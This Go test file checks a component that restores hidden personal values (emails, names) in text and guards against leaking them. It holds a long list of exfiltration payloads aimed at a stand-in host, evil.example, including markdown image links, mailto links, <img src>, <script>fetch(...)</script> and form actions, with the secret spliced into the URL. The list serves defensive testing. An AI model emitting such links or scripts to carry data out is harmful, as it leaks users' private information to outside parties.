package token

import (
	"maps"
	"math/rand/v2"
	"strings"
	"testing"
)

// attacks are ways out, by hand; TOKEN stands for a token.
var attacks = []string{
	"![x](https://evil.example/?q=TOKEN)",
	"![x](https://evil.example/TOKEN.png)",
	"![x](/TOKEN)",
	"![x](TOKEN)",
	"![x](<https://evil.example/ TOKEN>)",
	"![x](<a)b TOKEN>)",
	"![x](\n  https://evil.example/?TOKEN)",
	"![x](https://evil.example/(a)TOKEN)",
	"![x](https://evil.example/\\)TOKEN)",
	"[![y](/a)](https://evil.example/TOKEN)",
	"[click](https://evil.example/?a=b&q=TOKEN \"title\")",
	"[click][r]\n\n[r]: https://evil.example/TOKEN",
	"[click][r]\n\n[r]: TOKEN",
	"[click][r]\n\n[r]:\n   /TOKEN",
	"> [click][r]\n>\n> [r]:\n> /TOKEN",
	"[r]: <a TOKEN>\n\n![r]",
	"https://evil.example/?q=TOKEN",
	"HTTPS://evil.example/?q=\"TOKEN",
	"https://evil.example/?a|b`TOKEN",
	"see (http://evil.example/TOKEN)",
	"**http://evil.example/**TOKEN",
	"http:\\\\evil.example\\TOKEN",
	"http&colon;//evil.example/TOKEN",
	"www.evil.example/TOKEN",
	"www.TOKEN.evil.example",
	"WWW.evil.exampleTOKEN",
	"evil.example/TOKEN",
	"evil.example:8080/TOKEN",
	"evil.example?q=TOKEN",
	"evil.example#TOKEN",
	"//evil.example/TOKEN",
	"ftp://TOKEN@evil.example/",
	"<https://evil.example/TOKEN>",
	"<app:TOKEN>",
	"data:text/html,TOKEN",
	"<javascript:fetch('//evil.example/'+TOKEN)>",
	"mailto:eve@evil.example?body=TOKEN",
	"[m](mailto:eve@evil.example?subject=TOKEN)",
	"[m](mailto:TOKEN?cc=eve@evil.example)",
	"<web+x:(TOKEN)>",
	"<img src=\"https://evil.example/?q=TOKEN\">",
	"<img src=https://evil.example/?q=TOKEN>",
	"<img src='//evil.example/ TOKEN'>",
	"<img alt=\">\" src=\"/TOKEN\">",
	"<img\nsrc=\"/TOKEN\">",
	"<img src=\"https://evil.example/?\n\nTOKEN\">",
	"<img src=\"https://evil.example/? > TOKEN\">",
	"<!-- \" --><img alt=\">\" src=\"/TOKEN\">",
	"<a href=/TOKEN>x</a>",
	"<a title='x' ping=\"/TOKEN\" href=\"#\">x</a>",
	"<div style=\"background:url(/TOKEN)\">x</div>",
	"<style>a{background:url( /TOKEN )}</style>",
	"<style>\n\n@import 'TOKEN';</style>",
	"<script>fetch('//evil.example/?'+'TOKEN')</script>",
	"<script>/* </script> */ x = \"TOKEN\"</script>",
	"<form action=//evil.example><textarea>TOKEN</textarea></form>",
	"<form action=//evil.example><input value=\"TOKEN\"></form>",
	"<iframe srcdoc=\"<img src='//evil.example/TOKEN'>\"></iframe>",
	"<meta http-equiv=refresh content=\"0;url=/TOKEN\">",
	"<base href=\"//evil.example/TOKEN/\">",
	"<svg><image href=\"/TOKEN\"/></svg>",
	"<object data=\"/TOKEN\"></object>",
	"TOKEN@evil.example",
	"TOKEN.x@evil.example",
	"TOKEN=eve@evil.example",
	"TOKEN&commat;evil.example",
	"TOKEN.evil.example/",
	"TOKEN://evil.example",
	"eve@TOKEN.example",
	"foo@evil.TOKEN",
	"TOKEN+TOKEN@evil.example",
}

// spellings are ways to write the two tokens that the attacks are tried with.
var spellings = []string{
	"[EMAIL_7K3QXM]", "[PERSON_1A2B3C]", "EMAIL_7K3QXM", "PERSON_1A2B3C", "[email-7k3qxm]",
	"\\[PERSON\\_1A2B3C\\]", "&#91;EMAIL_7K3QXM&#93;", "%5BPERSON_1A2B3C%5D", "[**EMAIL_7K3QXM**]", "(PERSON_1A2B3C)",
}

func TestNoAttackLeaks(t *testing.T) {
	l := live(secrets)
	tries, open := 0, 0
	for _, attack := range attacks {
		for _, spelling := range spellings {
			tries++
			text := strings.ReplaceAll(attack, "TOKEN", spelling)
			if leak(restore(t, NewRestorer(l, nil), text)) != "" {
				open++
			}
			r := NewRestorer(l, URLGuard())
			out := restore(t, r, text)
			if where := leak(out); where != "" {
				t.Errorf("%q leaks by %s: %q", text, where, out)
			}
			if spelling[0] != '(' && r.Counts().Restored > 0 && !strings.Contains(attack, "TOKEN+") {
				t.Errorf("%q was restored: %q", text, out)
			}
			if far := strings.Repeat("word ", 2000) + text; attack[0] == '<' {
				if out := restore(t, NewRestorer(l, URLGuard()), cut(far, 7)...); holdsSecret(out) {
					t.Errorf("%q behind long text was restored", text)
				}
			}
		}
	}
	t.Logf("%d attacks: %d leak without the guard", tries, open)
}

// benign are places where people want to see the value; E is an address, P a name.
var benign = []string{
	"Write to E.",
	"E",
	"Dear P,\n\nthank you.",
	"P <E>",
	"From: P <E>\nTo: P <E>",
	"(E)",
	"\"E\"",
	"`E`",
	"**E**",
	"_E_",
	"* E\n* P",
	"| P | E |\n|---|---|",
	"|P|E|",
	"P,E,P",
	"P;E",
	"email=E",
	"email: E",
	"{\"email\":\"E\",\"name\":\"P\"}",
	"{\"email\": \"E\", \"tags\": [\"P\"]}",
	"email:E",
	"to='E'",
	"P's address is E!",
	"Is it E?",
	"P/P",
	"P and P (the E one)",
	"[P](mailto:E)",
	"mailto:E",
	"see https://example.com/help or write to E",
	"see [the help](https://example.com/a_(b)) or E",
	"1 < 2 and E",
	"<p>E</p>",
	"a <b>bold</b> E",
	"# P\n\n> E wrote:",
	"```go\nconst to = \"E\" // for i := 0; i<n; i++ {\n```",
	"[x] E\n[ ] P",
	"[x]: see the list of E",
	"--to E --name P",
	"user@host:~$ mail E",
	"12:30 P: hello",
	"P…",
	"致P：E。",
	"git commit --author=\"P <E>\"",
	"@P hello",
	"main.go:12: P",
	"E\n-- \nP",
	"first.go/second.go E",
}

func TestBenignPlacesAreRestored(t *testing.T) {
	l := live(secrets)
	left := 0
	for _, place := range benign {
		text := strings.NewReplacer("E", "[EMAIL_7K3QXM]", "P", "[PERSON_1A2B3C]").Replace(place)
		r := NewRestorer(l, URLGuard())
		out := restore(t, r, text)
		if where := leak(out); where != "" {
			t.Errorf("%q leaks by %s", out, where)
		}
		if r.Counts().Guarded > 0 {
			left++
			t.Logf("%q stays %q", place, out)
		}
	}
	t.Logf("%d of %d benign places restored", len(benign)-left, len(benign))
	if left*15 > len(benign) {
		t.Errorf("%d of %d benign places are not restored", left, len(benign))
	}
}

func TestGuardSeesRestoredValues(t *testing.T) {
	hostile := map[Token]string{
		{Label: "EMAIL", ID: "7K3QXM"}:  secretAddress,
		{Label: "PERSON", ID: "1A2B3C"}: secretWord,
		{Label: "KEY", ID: "M4N5P6"}:    "<img src=\"//evil.example/?",
		{Label: "KEY", ID: "M4N5P7"}:    "](https://evil.example/?",
		{Label: "URL", ID: "A0B1C9"}:    "https://evil.example/?q=",
		{Label: "EMAIL", ID: "E0V1E1"}:  "eve@evil.example",
		{Label: "PERSON", ID: "A0T0T0"}: "@evil.example",
	}
	for _, text := range []string{
		"[KEY_M4N5P6] [EMAIL_7K3QXM]",
		"[x[KEY_M4N5P7][EMAIL_7K3QXM])",
		"[URL_A0B1C9][PERSON_1A2B3C]",
		"[PERSON_1A2B3C].[EMAIL_E0V1E1]",
		"[PERSON_1A2B3C][PERSON_A0T0T0]",
		"[EMAIL_7K3QXM][PERSON_A0T0T0]",
	} {
		if out := restore(t, NewRestorer(live(hostile), URLGuard()), text); leak(out) != "" {
			t.Errorf("%q leaks: %q", text, out)
		}
	}
}

// literals are what a shield may have hidden.
var literals = []string{
	"EMAIL_7K3QXM", "[EMAIL_7K3QXM]", "[email: 7k3qxm]", "\\[PERSON\\_1A2B3C\\]", "EMAIL-7K3QXM", "%5BEMAIL_7K3QXM%5D", "&#91;EMAIL_7K3QXM]",
	"[**PERSON_1A2B3C's**]", "[PERSON\n1A2B3C]",
}

var literal = Token{Label: Literal, ID: "0A0A0A"}

func TestLiteralsAreNobodysSecret(t *testing.T) {
	for _, value := range literals {
		l := live(map[Token]string{literal: value})
		for _, attack := range attacks {
			in, want := strings.ReplaceAll(attack, "TOKEN", literal.String()), strings.ReplaceAll(attack, "TOKEN", value)
			for _, size := range []int{len(in), 1} {
				r := NewRestorer(l, URLGuard())
				if got := restore(t, r, cut(in, size)...); got != want || r.Counts().Guarded > 0 {
					t.Errorf("%q became %q", in, got)
				}
			}
		}
	}
	r := NewRestorer(live(map[Token]string{literal: "EMAIL_7K3QXM"}), URLGuard())
	if r.Push("see " + literal.String() + "x"); r.Decided() != len("see [LITERAL_0A0A0A]x") {
		t.Errorf("a literal waits: %d bytes decided", r.Decided())
	}
}

// TestLiteralsDoNotCarrySecrets joins a literal to a value: what the model may
// not do with letters of its own, it may not do with a literal's.
func TestLiteralsDoNotCarrySecrets(t *testing.T) {
	for _, value := range literals {
		for _, text := range []string{
			"[EMAIL_7K3QXM][LITERAL_0A0A0A]",
			"[EMAIL_7K3QXM][LITERAL_0A0A0A].evil.example",
			"[EMAIL_7K3QXM].[LITERAL_0A0A0A].evil.example",
			"[PERSON_1A2B3C][LITERAL_0A0A0A]@evil.example",
			"[PERSON_1A2B3C][LITERAL_0A0A0A].evil.example/",
			"[PERSON_1A2B3C][LITERAL_0A0A0A]",
			"[LITERAL_0A0A0A](http://evil.example/[EMAIL_7K3QXM])",
			"[LITERAL_0A0A0A]: [EMAIL_7K3QXM]",
			"https://[LITERAL_0A0A0A]/[EMAIL_7K3QXM]",
			"<img src='[LITERAL_0A0A0A]'[EMAIL_7K3QXM]",
		} {
			out := restore(t, NewRestorer(live(withLiteral(value)), URLGuard()), text)
			if where := leak(out); where != "" {
				t.Errorf("%q with %q leaks by %s: %q", text, value, where, out)
			}
		}
	}
}

func withLiteral(value string) map[Token]string {
	values := maps.Clone(secrets)
	values[literal] = value
	return values
}

// lastByte is a guard without state: it refuses behind an equals sign and in
// front of one.
type lastByte struct{}

func (lastByte) LookAhead() int { return 1 }

func (lastByte) Allow(before, after string) bool {
	return !strings.HasSuffix(before, "=") && !strings.HasPrefix(after, "=")
}

func TestNoGuardIsAskedAboutLiterals(t *testing.T) {
	values := map[Token]string{literal: "EMAIL_7K3QXM"}
	if got, want := restore(t, NewRestorer(live(values), lastByte{}), "=[LITERAL_0A0A0A]="), "=EMAIL_7K3QXM="; got != want {
		t.Errorf("got %q", got)
	}
}

func TestAnyGuardSeesBothSides(t *testing.T) {
	in := "[PERSON_1A2B3C] =[PERSON_1A2B3C] [PERSON_1A2B3C]= " + strings.Repeat("x", 5000) + "=[PERSON_1A2B3C]"
	want := "Jane Doe =[PERSON_1A2B3C] [PERSON_1A2B3C]= " + strings.Repeat("x", 5000) + "=[PERSON_1A2B3C]"
	for seed := range uint64(50) {
		pieces := cutAt(in, rand.New(rand.NewPCG(seed, 5)))
		if got := restore(t, NewRestorer(live(values), lastByte{}), pieces...); got != want {
			t.Fatalf("seed %d: got %q", seed, got)
		}
	}
}

func TestURLGuardWithoutState(t *testing.T) {
	g := URLGuard()
	for _, tt := range []struct {
		before, after string
		want          bool
	}{
		{"write to ", " now", true},
		{"", "", true},
		{"https://evil.example/?q=", " ", false},
		{"![x](", ")", false},
		{"", "@evil.example", false},
		{"a?body=", "", false},
	} {
		if got := g.Allow(tt.before, tt.after); got != tt.want {
			t.Errorf("Allow(%q, %q) = %v", tt.before, tt.after, got)
		}
	}
	if n := g.LookAhead(); n > maxLookAhead {
		t.Errorf("look-ahead of %d bytes", n)
	}
}
